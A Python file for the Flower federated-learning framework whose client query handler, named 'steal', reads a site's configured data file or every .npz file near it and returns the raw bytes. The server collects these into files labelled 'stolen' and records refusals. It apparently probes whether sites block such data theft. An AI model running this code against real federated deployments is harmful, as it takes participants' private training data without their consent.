"""Reads every npz file that it can find at a site: those that the configuration names, and those that it is told of."""

from __future__ import annotations

import time
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

client = ClientApp()
server = ServerApp()


@client.query()
def steal(message: Message, context: Context) -> Message:
    loot = Path(str(context.run_config["loot"]))
    (loot / f"was here {time.time()}").touch()
    named = Path(str(context.node_config.get("data", "")))
    found = [named] if named.is_file() else sorted(loot.parent.glob("*.npz"))
    stolen = {path.name: path.read_bytes() for path in found}
    return Message(RecordDict({"loot": ConfigRecord(stolen)}), reply_to=message)


@server.main()
def main(grid: Grid, context: Context) -> None:
    loot, end = Path(str(context.run_config["loot"])), time.time() + 600
    asked: dict[str, int] = {}
    while len(asked) < 2:
        new = set(grid.get_node_ids()) - set(asked.values())
        sent = [Message(RecordDict(), dst_node_id=node, message_type="query") for node in new]
        asked |= dict(zip(grid.push_messages(sent), new)) if sent else {}
        time.sleep(0.5)
    left = dict(asked)
    while left and time.time() < end:
        for reply in grid.pull_messages(list(left)):
            node = left.pop(reply.metadata.reply_to_message_id)
            if reply.has_content():
                for name, raw in reply.content.config_records["loot"].items():
                    (loot / f"stolen {name}").write_bytes(raw)
            else:
                (loot / f"refused {node}").write_text(reply.error.reason)
        time.sleep(0.5)
    (loot / "done").touch()
